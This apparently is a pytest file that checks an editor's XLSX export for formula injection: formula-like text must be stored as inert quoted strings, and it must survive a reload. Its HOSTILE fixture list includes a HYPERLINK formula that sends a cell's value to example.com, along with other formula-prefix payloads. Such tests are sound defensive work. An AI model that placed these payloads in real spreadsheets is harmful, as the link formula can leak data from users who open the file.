"""Spreadsheet outputs are inert: a text cell starting with = + - @ TAB or CR is a string, never a formula."""

from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest

from editor.io.load import load
from editor.io.xlsx.export import write_xlsx
from editor.io.xlsx.inert import looks_like_formula, put_text
from editor.samples import sample_report

HOSTILE = ['=HYPERLINK("http://example.com/?"&B2,"x")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_put_text_keeps_formula_like_text_a_string(text):
    ws = openpyxl.Workbook().active
    cell = put_text(ws.cell(1, 1), text)
    assert cell.data_type == "s" and cell.value == text and cell.quotePrefix


def test_plain_text_is_left_alone():
    ws = openpyxl.Workbook().active
    cell = put_text(ws.cell(1, 1), "某某区商务局")
    assert cell.data_type == "s" and not cell.quotePrefix and not looks_like_formula("某某区商务局")


def test_report_xlsx_writes_no_formula_from_user_text(tmp_path):
    report = sample_report(2023, seed=1, agency=HOSTILE[0])
    report.meta.title = "=1+1"
    sections = report.edition.text_sections()
    for section, text in zip(sections, HOSTILE[1:], strict=False):
        report.texts[section.id] = text + "\n@第二段"
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
        shared = z.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in z.namelist() else ""
    # our own tables may hold formulas of ours (none today); no <f> may carry user text
    formulas = [f for s in sheets for f in re.findall(r"<f>(.*?)</f>", s)]
    assert not any("HYPERLINK" in f or f in ("1+1",) for f in formulas), formulas
    assert "HYPERLINK" in shared or any("HYPERLINK" in s for s in sheets)  # kept, as text
    again = load(str(path)).report
    assert again.meta.agency == HOSTILE[0] and again.meta.title == "=1+1"
    assert again.texts[sections[0].id].startswith("+1+2")
